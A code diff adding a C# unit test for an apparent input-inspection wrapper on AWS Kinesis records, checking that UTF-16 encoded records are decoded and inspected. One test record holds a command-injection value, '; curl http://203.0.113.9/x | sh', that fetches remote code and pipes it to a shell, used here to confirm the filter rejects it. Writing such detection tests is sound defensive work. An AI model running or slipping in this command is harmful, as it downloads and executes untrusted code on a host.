@@ -66,6 +66,23 @@ public sealed class LambdaShieldStreamTests
         Assert.Equal(["2", "3"], FailureIds(response));
     }
 
+    // A producer on Windows may write its records in UTF-16 with a byte order mark (Encoding.Unicode, PowerShell's
+    // default); the consumer's StreamReader decodes them by that mark. They are inspected as that text.
+    [Fact]
+    public async Task Wrap_Utf16KinesisRecords_AreInspectedAsTheirText()
+    {
+        static byte[] Utf16(string text) => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(text)];
+
+        var bytes = KinesisEvent([("1", Utf16("{\"device\": \"sensor-17\", \"note\": \"reading within range\"}")), ("2", Utf16("{\"device\": \"sensor-18\", \"note\": \"; curl http://203.0.113.9/x | sh\"}"))]);
+        var function = new ShieldedFunction();
+
+        var response = await function.InvokeAsync(bytes);
+
+        var received = JsonNode.Parse(Assert.Single(function.Received))!["Records"]!.AsArray();
+        Assert.Equal(["1"], received.Select(r => r!["kinesis"]!["sequenceNumber"]!.GetValue<string>()));
+        Assert.Equal(["2"], FailureIds(response));
+    }
+
     // A CloudWatch Logs subscription to a Kinesis stream: each record's data is gzip-compressed JSON. The log messages
     // are inspected as the handler will read them once inflated.
     [Fact]
